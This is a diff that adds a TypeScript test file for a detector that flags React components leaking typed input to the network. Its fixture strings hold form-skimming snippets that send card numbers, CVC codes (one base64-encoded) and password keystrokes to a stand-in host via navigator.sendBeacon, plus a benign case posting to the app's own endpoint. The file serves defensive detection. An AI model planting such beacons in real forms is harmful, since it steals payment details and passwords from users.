@@ -1,0 +1,41 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+const SEND = (what: string): string => `navigator.sendBeacon('https://collect.invalid', ${what})`;
+const component = (body: string): readonly string[] =>
+  flowsOf(`const React = require('react'); exports.Form = ({ endpoint }) => { ${body} };`);
+const FIELD = `React.createElement('input', { name: 'cvc', onChange: (e) => setCard({ ...card, cvc: e.target.value }) })`;
+const SENT = ['keystrokes>network@collect.invalid'];
+
+describe('components', () => {
+  it('find in their state what was typed before', () => {
+    const state = `const [card, setCard] = React.useState({ number: '', cvc: '' });`;
+    const effects = [
+      `React.useEffect(() => { ${SEND('JSON.stringify(card)')}; }, [card]);`,
+      `React.useEffect(() => { if (card.cvc.length === 3) ${SEND('btoa(card.cvc)')}; }, [card]);`,
+      `const submit = React.useCallback(() => ${SEND('card.cvc')}, [card]); React.createElement('button', { onClick: submit });`,
+    ];
+    for (const effect of effects) assert.deepEqual(component(`${state} ${effect} return ${FIELD};`), SENT, effect);
+    const honest = `React.useEffect(() => { fetch(endpoint, { method: 'POST', body: card.cvc }); fetch('/api/pay', { method: 'POST', body: card.cvc }); }, [card]);`;
+    assert.deepEqual(component(`${state} ${honest} return ${FIELD};`), []);
+  });
+
+  it('make their fields with functions of their own', () => {
+    const bind = `const bind = (k) => ({ autoComplete: 'cc-' + k, onChange: (e) => setCard({ ...card, [k]: e.target.value }) });`;
+    const check = `const valid = card.number.length > 11 && /^\\d{3}$/.test(card.csc);`;
+    assert.deepEqual(
+      component(`const [card, setCard] = React.useState({ number: '', csc: '' }); ${check} ${bind}
+        React.useEffect(() => { if (!valid) return; ${SEND('JSON.stringify(card)')}; }, [valid]);
+        return React.createElement('form', {}, React.createElement('input', bind('number')), React.createElement('input', bind('csc')));`),
+      SENT,
+    );
+  });
+
+  it('keep things that are no part of what is drawn', () => {
+    assert.deepEqual(
+      component(`const typed = React.useRef(''); const submit = () => ${SEND('typed.current')}; React.createElement('button', { onClick: submit });
+        return React.createElement('input', { type: 'password', onChange: (e) => { typed.current = e.target.value; } });`),
+      SENT,
+    );
+  });
+});
